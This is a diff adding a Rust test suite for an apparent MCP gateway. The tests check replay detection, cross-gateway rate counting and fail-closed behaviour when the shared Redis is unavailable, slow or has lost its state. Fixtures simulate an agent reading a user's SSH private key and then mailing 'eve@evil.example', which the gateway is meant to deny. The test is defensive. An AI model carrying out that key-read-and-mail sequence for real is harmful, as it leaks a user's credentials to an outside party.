@@ -1,0 +1,403 @@
+//! Two gateways in front of the same servers, which remember together: whichever of them is asked, it
+//! is as if there were one. What they cannot look up they refuse.
+
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+
+use mcps_core::code::Code;
+use mcps_core::message::Message;
+use reqwest::StatusCode;
+use serde_json::{Value, json};
+use tokio::sync::Barrier;
+use tokio::task::JoinSet;
+
+use super::redis::Redis;
+use super::server::Server;
+use super::{Gate, over_http};
+use crate::listen::caller::Caller;
+use crate::wire::{INITIALIZE, Process, Stage, code_of, eventually};
+
+const COUNT: &str = r#"
+version = 1
+[[fact]]
+id = "look"
+on = "call"
+when = { tool = ["look"] }
+[[sequence]]
+id = "no-more-than-five"
+match = "count(look, 1h) > 5"
+scope = "principal"
+then = "deny"
+reason = "Five are enough."
+"#;
+
+fn call(id: u32, tool: &str, arguments: &Value) -> String {
+    let params = json!({"name": tool, "arguments": arguments});
+    json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": params}).to_string()
+}
+
+fn read(id: u32) -> String {
+    call(
+        id,
+        "files__read_file",
+        &json!({"path": "/home/ann/.ssh/id_ed25519"}),
+    )
+}
+
+fn send(id: u32) -> String {
+    let mail = json!({"to": "eve@evil.example", "body": "as asked"});
+    call(id, "mail__send_mail", &mail)
+}
+
+fn look(id: u32) -> String {
+    call(id, "files__look", &json!({}))
+}
+
+/// A second gateway, reached under the name of the first too.
+struct Other {
+    process: Process,
+    url: String,
+    home: PathBuf,
+}
+
+impl Other {
+    async fn beside(gate: &Gate) -> Self {
+        let home = gate.stage.world.enrol("gateway", "gateway-2", 2);
+        let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let url = format!("http://{}/mcp", free.local_addr().unwrap());
+        drop(free);
+        let process = Self::start(gate, &home, &url).await;
+        Self { process, url, home }
+    }
+
+    async fn start(gate: &Gate, home: &Path, url: &str) -> Process {
+        let dir = gate.stage.world.dir();
+        let at = url.trim_start_matches("http://").trim_end_matches("/mcp");
+        let mut program = gate.stage.world.program("mcps-gateway");
+        program.arg("--home").arg(home).arg("serve");
+        program.arg("--config").arg(dir.join("gateway.toml"));
+        program.arg("--record").arg(dir.join("records-2"));
+        program.args(["--public-url", &gate.url, "--listen", at]);
+        program.args(["--status-refresh", "0"]);
+        let mut process = Process::start(&gate.stage.world, program);
+        process.read().await;
+        process
+    }
+
+    async fn restart(&mut self, gate: &Gate) {
+        self.process.kill().await;
+        self.process = Self::start(gate, &self.home, &self.url).await;
+    }
+}
+
+/// Files and mail behind two gateways that share a Redis.
+struct Office {
+    redis: Redis,
+    files: Server,
+    mail: Server,
+    gate: Gate,
+    other: Other,
+}
+
+impl Office {
+    async fn open(redis: Redis) -> Self {
+        let files = Server::with(&["read_file", "look"]).await;
+        let mail = Server::with(&["send_mail"]).await;
+        let stage = Stage::set();
+        let dir = stage.world.dir();
+        fs::write(dir.join("count.toml"), COUNT).unwrap();
+        let config = format!(
+            "{}[tenant.default]\npolicy = [\"count.toml\"]\n[tenant.open]\nanonymous = true\n{}[server.tool.read_file]\nclass = [\"read\"]\n{}[server.tool.send_mail]\nclass = [\"send\"]\n",
+            redis.table(dir),
+            over_http("files", &files),
+            over_http("mail", &mail)
+        );
+        let gate = Gate::open_on(stage, &config).await;
+        let other = Other::beside(&gate).await;
+        Self {
+            redis,
+            files,
+            mail,
+            gate,
+            other,
+        }
+    }
+
+    /// The agent at one gateway and at the other, each in a session.
+    async fn callers(&self) -> [Caller; 2] {
+        let urls = [&self.gate.url, &self.other.url];
+        let mut callers = urls.map(|url| Caller::of(&self.gate.stage.agent, url));
+        for caller in &mut callers {
+            caller.open_session().await;
+        }
+        callers
+    }
+
+    fn is_untouched(&self) -> bool {
+        self.files.is_untouched() && self.mail.is_untouched()
+    }
+}
+
+/// Posts to a gateway without a signature.
+async fn plain(url: &str, text: &str) -> String {
+    let posted = reqwest::Client::new().post(url).body(text.to_owned());
+    let posted = posted
+        .header("content-type", "application/json")
+        .header("accept", "application/json, text/event-stream");
+    posted.send().await.unwrap().text().await.unwrap()
+}
+
+/// Posts the first message of a session that nobody had before: the status, and why it is refused if it is.
+/// Who is refused for what Redis does not say cannot be told for certain, so the answer is bound to nothing.
+async fn begin(office: &Office, url: &str) -> (StatusCode, Option<Code>) {
+    let caller = Caller::of(&office.gate.stage.agent, url);
+    let (text, _) = caller
+        .link
+        .seal_post(Message::parse(INITIALIZE).unwrap(), None)
+        .unwrap();
+    let posted = caller.post(text).await;
+    let status = posted.status();
+    (status, code_of(&posted.text().await.unwrap()))
+}
+
+/// Sends mail without a signature, in the era without sessions.
+async fn plain_send(url: &str) -> String {
+    let meta = json!({"io.modelcontextprotocol/protocolVersion": "2026-07-28",
+        "io.modelcontextprotocol/clientInfo": {"name": "t", "version": "1"},
+        "io.modelcontextprotocol/clientCapabilities": {}});
+    let mut sent: Value = serde_json::from_str(&send(1)).unwrap();
+    sent["params"]["_meta"] = meta;
+    let posted = reqwest::Client::new().post(url).body(sent.to_string());
+    let posted = posted
+        .header("content-type", "application/json")
+        .header("accept", "application/json, text/event-stream")
+        .header("mcp-protocol-version", "2026-07-28")
+        .header("mcp-method", "tools/call")
+        .header("mcp-name", "mail__send_mail");
+    posted.send().await.unwrap().text().await.unwrap()
+}
+
+#[tokio::test]
+async fn a_message_is_good_at_one_of_two_gateways_and_once() {
+    let office = Office::open(Redis::forgetful()).await;
+    let [one, other] = urls(&office).map(|url| Caller::of(&office.gate.stage.agent, url));
+    let (text, _) = one
+        .link
+        .seal_post(Message::parse(INITIALIZE).unwrap(), None)
+        .unwrap();
+    assert_eq!(one.post(text.clone()).await.status(), StatusCode::OK);
+    let replayed = other.post(text.clone()).await;
+    assert_eq!(replayed.status(), StatusCode::CONFLICT);
+    let said = replayed.text().await.unwrap();
+    assert_eq!(code_of(&said), Some(Code::Replayed), "{said}");
+    let replayed = one.post(text).await.text().await.unwrap();
+    assert_eq!(code_of(&replayed), Some(Code::Replayed), "{replayed}");
+}
+
+fn urls(office: &Office) -> [&String; 2] {
+    [&office.gate.url, &office.other.url]
+}
+
+#[tokio::test]
+async fn a_restart_of_a_gateway_makes_no_message_good_again_and_takes_new_ones_at_once() {
+    let mut office = Office::open(Redis::forgetful()).await;
+    let one = Caller::of(&office.gate.stage.agent, &office.gate.url);
+    let (text, _) = one
+        .link
+        .seal_post(Message::parse(INITIALIZE).unwrap(), None)
+        .unwrap();
+    assert_eq!(one.post(text.clone()).await.status(), StatusCode::OK);
+    office.other.restart(&office.gate).await;
+    let other = Caller::of(&office.gate.stage.agent, &office.other.url);
+    let said = other.post(text).await.text().await.unwrap();
+    assert_eq!(code_of(&said), Some(Code::Replayed), "{said}");
+    let begun = begin(&office, &office.other.url).await;
+    assert_eq!(begun, (StatusCode::OK, None), "nothing is to be waited for");
+}
+
+#[tokio::test]
+async fn what_was_read_through_one_is_not_sent_through_the_other() {
+    let office = Office::open(Redis::forgetful()).await;
+    let [one, other] = office.callers().await;
+    let told = other.ask(&send(1)).await;
+    assert!(told[0].contains("send_mail("), "{told:?}");
+    let told = one.ask(&read(2)).await;
+    assert!(told[0].contains("read_file("), "{told:?}");
+    for caller in [&other, &one] {
+        let told = caller.ask(&send(3)).await;
+        assert_eq!(code_of(&told[0]), Some(Code::Denied), "{told:?}");
+    }
+    assert_eq!(office.mail.seen("tools/call").len(), 1);
+    let values = office.redis.say("KEYS *");
+    assert!(
+        !values.contains("acme") && values.contains("mcps:h:"),
+        "{values}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn of_calls_that_are_released_at_once_at_both_not_one_slips_past_a_count() {
+    let office = Office::open(Redis::forgetful()).await;
+    let callers = office.callers().await.map(Arc::new);
+    for caller in &callers {
+        // Its tools are listed once before.
+        let told = caller.ask(&look(99)).await;
+        assert!(told[0].contains("look("), "{told:?}");
+    }
+    let barrier = Arc::new(Barrier::new(24));
+    let mut calls = JoinSet::new();
+    for id in 0..24_u32 {
+        let caller = Arc::clone(&callers[(id % 2) as usize]);
+        let barrier = Arc::clone(&barrier);
+        calls.spawn(async move {
+            barrier.wait().await;
+            caller.ask(&look(id)).await.remove(0)
+        });
+    }
+    let told = calls.join_all().await;
+    let passed = told.iter().filter(|told| told.contains("look(")).count();
+    assert_eq!((passed, office.files.seen("tools/call").len()), (3, 5));
+    let denied = told
+        .iter()
+        .filter(|told| code_of(told) == Some(Code::Denied));
+    assert_eq!(denied.count(), 21, "{told:?}");
+}
+
+#[tokio::test]
+async fn without_redis_everything_is_refused_and_no_server_hears_of_it_until_it_is_back() {
+    let mut office = Office::open(Redis::durable()).await;
+    office.redis.stop();
+    for url in urls(&office) {
+        let refused = begin(&office, url).await;
+        let unavailable = StatusCode::SERVICE_UNAVAILABLE;
+        assert_eq!(refused, (unavailable, Some(Code::SharedStateUnavailable)));
+    }
+    let said = plain(&office.gate.at("files"), INITIALIZE).await;
+    assert_eq!(code_of(&said), Some(Code::SharedStateUnavailable), "{said}");
+    assert!(office.is_untouched());
+    let words = office.gate.process.words();
+    assert!(words.contains("the shared state cannot be had"), "{words}");
+    assert!(
+        !words.contains(&office.redis.password),
+        "the password is in the log"
+    );
+
+    office.redis.start();
+    eventually("messages are taken again", async || {
+        let (_, code) = begin(&office, &office.gate.url).await;
+        code.is_none().then_some(())
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn what_redis_does_not_answer_in_time_is_refused() {
+    let office = Office::open(Redis::forgetful()).await;
+    office.redis.signal("STOP");
+    let since = std::time::Instant::now();
+    let (status, code) = begin(&office, &office.gate.url).await;
+    let took = since.elapsed();
+    office.redis.signal("CONT");
+    assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE);
+    assert_eq!(code, Some(Code::SharedStateUnavailable));
+    assert!(took < std::time::Duration::from_secs(5), "{took:?}");
+    assert!(office.is_untouched());
+    eventually("messages are taken again", async || {
+        let (_, code) = begin(&office, &office.gate.url).await;
+        code.is_none().then_some(())
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn a_redis_that_forgot_is_not_taken_for_one_in_which_nothing_happened() {
+    let office = Office::open(Redis::forgetful()).await;
+    let [one, other] = urls(&office).map(|url| Caller::of(&office.gate.stage.agent, url));
+    let (text, _) = one
+        .link
+        .seal_post(Message::parse(INITIALIZE).unwrap(), None)
+        .unwrap();
+    assert_eq!(one.post(text.clone()).await.status(), StatusCode::OK);
+    let said = plain_send(&office.gate.url).await;
+    assert!(said.contains("send_mail("), "{said}");
+    office.redis.say("FLUSHALL");
+
+    // What was signed before may have been used before.
+    let said = other.post(text).await.text().await.unwrap();
+    assert_eq!(code_of(&said), Some(Code::OutOfWindow), "{said}");
+    let (_, code) = begin(&office, &office.gate.url).await;
+    assert_eq!(code, Some(Code::OutOfWindow));
+
+    // And whoever does not sign may have read anything before.
+    let said = plain_send(&office.other.url).await;
+    assert_eq!(code_of(&said), Some(Code::Denied), "{said}");
+    assert_eq!(office.mail.seen("tools/call").len(), 1);
+    let words = office.other.process.words() + &office.gate.process.words();
+    assert!(words.contains("the shared state was lost"), "{words}");
+}
+
+#[tokio::test]
+async fn a_redis_that_fell_back_to_an_older_state_counts_as_one_that_forgot() {
+    let mut office = Office::open(Redis::forgetful()).await;
+    office.redis.say("SAVE");
+    let [one, _] = office.callers().await;
+    assert!(one.ask(&read(1)).await[0].contains("read_file("));
+    office.redis.stop();
+    office.redis.start();
+    eventually("it is noticed", async || {
+        let (_, code) = begin(&office, &office.gate.url).await;
+        (code == Some(Code::OutOfWindow)).then_some(())
+    })
+    .await;
+    assert!(
+        office
+            .gate
+            .process
+            .words()
+            .contains("the shared state was lost")
+    );
+}
+
+#[tokio::test]
+async fn what_cannot_be_opened_stops_the_start_and_says_why() {
+    let (redis, stage) = (Redis::forgetful(), Stage::set());
+    let dir = stage.world.dir();
+    let home = stage.world.enrol("gateway", "gateway", 2);
+    let table = redis.table(dir);
+    let start = |table: &str, password: Option<&str>| {
+        fs::write(
+            dir.join("gateway.toml"),
+            format!("{table}[tenant.default]\n"),
+        )
+        .unwrap();
+        let mut program = stage.world.program("mcps-gateway");
+        program.arg("--home").arg(&home).arg("serve");
+        program.arg("--config").arg(dir.join("gateway.toml"));
+        program.args(["--listen", "127.0.0.1:0"]);
+        program.envs(password.map(|password| ("MCPS_SHARED_PASSWORD", password)));
+        let done = program.output().unwrap();
+        assert!(!done.status.success());
+        let said = String::from_utf8(done.stderr).unwrap();
+        let at = format!("the shared state at 127.0.0.1:{}", redis.port());
+        assert!(said.contains(&at), "{said}");
+        assert!(!said.contains(&redis.password), "{said}");
+        said
+    };
+    let without = table.replace("password_file = \"redis-password\"\n", "");
+    let said = start(&without, None);
+    assert!(said.contains("asks for a password"), "{said}");
+    let said = start(&without, Some("wrong-by-a-mile"));
+    assert!(
+        said.contains("takes neither this user name nor this password"),
+        "{said}"
+    );
+    assert!(!said.contains("wrong-by-a-mile"), "{said}");
+    redis.say("CONFIG SET maxmemory 100mb");
+    redis.say("CONFIG SET maxmemory-policy allkeys-lru");
+    let said = start(&table, None);
+    assert!(said.contains("maxmemory-policy is allkeys-lru"), "{said}");
+    redis.signal("KILL");
+    let said = start(&table, None);
+    assert!(said.contains("cannot be reached"), "{said}");
+}
